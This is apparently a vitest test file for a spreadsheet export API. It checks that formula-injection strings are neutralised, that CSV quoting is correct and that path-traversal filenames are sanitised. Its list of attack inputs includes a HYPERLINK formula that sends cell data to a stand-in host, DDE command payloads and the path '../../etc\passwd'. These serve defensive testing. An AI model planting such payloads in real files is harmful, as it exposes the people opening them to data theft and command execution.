import { exportsApi } from '@sala/contract/analytics/exports/exports.api.ts';
import { harmlessText, isRisky } from '@sala/contract/core/spreadsheet/cells.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWorkplace, hire, signInAs } from '#testing/people.ts';
import { createTestApp, type TestApp } from '#testing/test-app.ts';
import type { TestPortal } from '#testing/test-portal.ts';

let app: TestApp;
let portal: TestPortal;

beforeAll(async () => {
  app = await createTestApp();
  const { merchantId } = await buildWorkplace(app);
  portal = await signInAs(app, await hire(app, merchantId, { permissions: [], isReadonly: true }));
});
afterAll(() => app?.close());

/** What customers could write into a field so that it runs on the computer of the person who opens the export. */
const attacks = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  '\rtext',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u001b@A1',
  ' \t \u200b+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1+cmd',
  '﹢1',
  '+855 12 345 678',
];
const harmless = ['Sophea', 'a=b', '1 + 1', 'name@lotus.example', '«=»', '១-២', '', '(=1)', "'=1"];

describe('a cell', () => {
  it.each(attacks)('%j cannot run', (text) => {
    expect(isRisky(text)).toBe(true);
    expect(harmlessText(text)).toBe(`'${text}`);
  });

  it.each(harmless)('%j stays as it is', (text) => {
    expect(harmlessText(text)).toBe(text);
  });
});

type Rows = (string | number | boolean | null)[][];
const table = (rows: Rows, format: 'csv' | 'xlsx' = 'csv', at: TestPortal = portal) =>
  at.call(exportsApi.table, { body: { title: 'People', format, head: ['ឈ្មោះ', '数量'], rows } });

describe('a table of a page', () => {
  it('is a CSV file that is read as UTF-8, keeps quotes and line breaks inside a cell, and runs nothing', async () => {
    const rows: Rows = [
      ['Say "hi", twice\nplease', -3.5],
      [null, true],
    ];
    const answer = await table(rows);
    expect(String(answer.data)).toContain('"ឈ្មោះ","数量"\r\n"Say ""hi"", twice\nplease","-3.5"\r\n,"true"\r\n');
    expect(answer.headers.get('content-disposition')).toContain('People.csv');
    const storable = attacks.filter((text) => !text.includes('\u0000'));
    const risky = String((await table(storable.map((text) => [text]))).data);
    for (const text of storable) expect(risky).toContain(`"'${text.replaceAll('"', '""')}`);
  });

  it('is a workbook', async () => {
    expect(String((await table([['=1+1']], 'xlsx')).data).startsWith('PK')).toBe(true);
  });

  it('has small tables after it, whose texts run nothing either', async () => {
    const further = [{ title: '=About', head: ['Detail', 'Value'], rows: [['Team', '=1+1']] }];
    const body = { title: 'People', format: 'csv' as const, head: ['Name'], rows: [['Sophea']], further };
    const answer = await portal.call(exportsApi.table, { body });
    expect(String(answer.data)).toContain(
      `"Name"\r\n"Sophea"\r\n\r\n"'=About"\r\n"Detail","Value"\r\n"Team","'=1+1"\r\n`,
    );
  });

  it('has a name that leads into no other folder', async () => {
    const body = { title: '../../etc\\passwd', format: 'csv' as const, head: ['Name'], rows: [] };
    const named = (await portal.call(exportsApi.table, { body })).headers.get('content-disposition');
    expect(named).toBe(`attachment; filename=".._.._etc_passwd.csv"; filename*=UTF-8''.._.._etc_passwd.csv`);
  });

  it('is written for people who are signed in, and refused where it is no table', async () => {
    expect((await table([], 'csv', app.portal())).status).toBe(401);
    const wrong = await portal.call(exportsApi.table, {
      body: { title: '', format: 'pdf', head: [], rows: {} } as never,
    });
    expect(Object.keys(wrong.failure.validate!).sort()).toEqual(['format', 'head', 'rows', 'title']);
  });
});
